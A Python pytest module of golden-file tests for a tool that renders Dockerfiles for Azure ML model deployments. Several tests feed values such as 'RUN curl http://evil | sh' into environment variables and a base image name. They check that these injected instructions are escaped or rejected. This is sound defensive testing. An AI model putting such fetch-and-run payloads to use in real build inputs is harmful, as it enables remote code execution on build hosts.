"""Golden files: the plan listing and the whole rendered Dockerfile for fixed inputs.

Regenerate with ``pytest tests/golden --update-golden`` and review the diff.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from compiler.deps.server import AZUREML_ONLINE
from compiler.environment.strategy import EnvironmentStrategy
from compiler.errors import SpecError
from compiler.fetch.cache import FetchedFiles
from compiler.lock.types import Lock, LockedPackage
from compiler.plan import ContextFile, plan_image
from compiler.render import render_dockerfile
from compiler.render.dockerfile import dockerquote, dockerwords
from compiler.resolve.types import ResolvedCode, ResolvedEnvironment, ResolvedModel, ResolvedPackage
from compiler.spec.model import ModelMode

HERE = Path(__file__).parent


def make_package(tmp_path: Path, mode: ModelMode, env_vars: dict | None = None) -> ResolvedPackage:
    (tmp_path / "src").mkdir(exist_ok=True)
    (tmp_path / "src" / "score.py").write_text("def init(): pass\n")
    spec = tmp_path / "package.yml"
    spec.write_text("target_environment: golden\n")
    return ResolvedPackage(
        spec_path=spec,
        target_name="golden-pkg",
        target_version=None,
        mode=mode,
        model=ResolvedModel("sklearn-regression", "3", "custom_model", "ab" * 32, tmp_path / "tree", "model", "azureml:sklearn-regression:3"),
        environment=ResolvedEnvironment("env", "1", "pkgc/base-debian-bookworm:latest", None, "conda file"),
        server=AZUREML_ONLINE,
        code=ResolvedCode(tmp_path / "src", "score.py"),
        model_dir="/var/azureml-app/azureml-models/sklearn-regression/3",
        environment_variables=env_vars or {"WORKER_COUNT": "2"},
    )


def make_plan(tmp_path: Path, mode: ModelMode, env_vars: dict | None = None):
    wheel = LockedPackage("joblib", "1.6.0", "pip", "https://files/joblib-1.6.0-py3-none-any.whl", "joblib-1.6.0-py3-none-any.whl", "cd" * 32)
    lock = Lock("venv", "3.11", "ef" * 32, (wheel,))
    strategy = EnvironmentStrategy("venv", "3.11", "test", ("joblib==1.6.0",))
    fetched = FetchedFiles({wheel.sha256: tmp_path / wheel.filename})
    lock_file = ContextFile("pkgc/conda-lock.yml", data=b"version: 1\n")
    return plan_image(make_package(tmp_path, mode, env_vars), strategy, lock, lock_file, fetched, "pkgc/golden-pkg:1")


def check(name: str, text: str, update: bool) -> None:
    path = HERE / "cases" / name
    if update:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    assert text == path.read_text(), f"{name} changed; review and run with --update-golden"


@pytest.mark.parametrize("mode", [ModelMode.READONLY_MOUNT, ModelMode.COPY])
def test_dockerfile_and_plan(tmp_path, mode, update_golden):
    plan = make_plan(tmp_path, mode)
    check(f"{mode.value}.Dockerfile", render_dockerfile(plan), update_golden)
    check(f"{mode.value}.plan.txt", "\n".join(plan.layer_summary()) + "\n", update_golden)


def test_layer_order_is_environment_model_code(tmp_path):
    kinds = [c.kind for c in make_plan(tmp_path, ModelMode.COPY).copies]
    assert kinds == ["environment", "runtime", "runtime", "model", "code"]
    assert "model" not in [c.kind for c in make_plan(tmp_path, ModelMode.READONLY_MOUNT).copies]


def test_values_cannot_inject_dockerfile_instructions(tmp_path):
    evil = 'x" \\ RUN curl http://evil | sh ENV Y="$HOME'
    text = render_dockerfile(make_plan(tmp_path, ModelMode.COPY, {"EVIL": evil}))
    assert f"EVIL={dockerquote(evil)}" in text
    assert dockerquote(evil) == '"x\\" \\\\ RUN curl http://evil | sh ENV Y=\\"\\$HOME"'
    assert dockerquote("$HOME") == '"\\$HOME"'  # no variable expansion by the builder
    assert dockerquote("cödé") == '"cödé"'  # raw UTF-8: the builder does not decode \\u escapes
    odd = render_dockerfile(make_plan(tmp_path, ModelMode.COPY, {"ODD": "a\rb\x85c\u2028d\te"}))
    assert 'ODD="a\rb\x85c\u2028d\te"' in odd  # one line: the builder splits lines at \n only


def test_a_newline_no_dockerfile_line_can_carry_is_refused_at_plan_time(tmp_path):
    with pytest.raises(SpecError) as caught:
        make_plan(tmp_path, ModelMode.COPY, {"EVIL": "x\nRUN curl http://evil | sh"})
    assert caught.value.lines() == [
        f"{tmp_path / 'package.yml'}: environment_variables.EVIL: 'x\\nRUN curl http://evil | sh' holds a newline "
        "or NUL, which no Dockerfile line can carry"
    ]


def test_user_names_reach_the_context_under_pkgc_names_only(tmp_path):
    plan = make_plan(tmp_path, ModelMode.COPY)
    assert {f.dest for f in plan.files} >= {"model/content", "code/content"}
    copy_args = [line for line in render_dockerfile(plan).splitlines() if line.startswith("COPY [")]
    assert 'COPY ["model/content", "/var/azureml-app/azureml-models/sklearn-regression/3/model"]' in copy_args
    assert dockerwords(["a b", "/x/$Y/[z]/it's \\ \"q\" ó"]) == (
        '["a b", "/x/\\\\$Y/[z]/it\\\\\'s \\\\\\\\ \\\\\\\"q\\\\\\\" ó"]'
    )


def test_user_template_extends_the_base_template(tmp_path):
    custom = tmp_path / "custom" / "Dockerfile.mine.j2"
    custom.parent.mkdir()
    custom.write_text('{% extends "Dockerfile.j2" %}\n{% block user %}{{ super() }}RUN echo extra\n{% endblock %}\n')
    text = render_dockerfile(make_plan(tmp_path, ModelMode.COPY), custom)
    assert "useradd" in text and "RUN echo extra" in text


def test_a_base_image_that_is_not_a_reference_cannot_inject_instructions(tmp_path):
    from dataclasses import replace

    pkg = make_package(tmp_path, ModelMode.COPY)
    evil = replace(pkg, environment=replace(pkg.environment, image="base:1\nRUN curl http://evil | sh"))
    wheel = LockedPackage("joblib", "1.6.0", "pip", "https://f/joblib-1.6.0-py3-none-any.whl", "joblib-1.6.0-py3-none-any.whl", "cd" * 32)
    strategy = EnvironmentStrategy("venv", "3.11", "test", ("joblib==1.6.0",))
    with pytest.raises(SpecError, match="is not an image reference"):
        plan_image(evil, strategy, Lock("venv", "3.11", "ef" * 32, (wheel,)), ContextFile("pkgc/conda-lock.yml", data=b""),
                   FetchedFiles({wheel.sha256: tmp_path / wheel.filename}), "pkgc/golden-pkg:1")  # fmt: skip
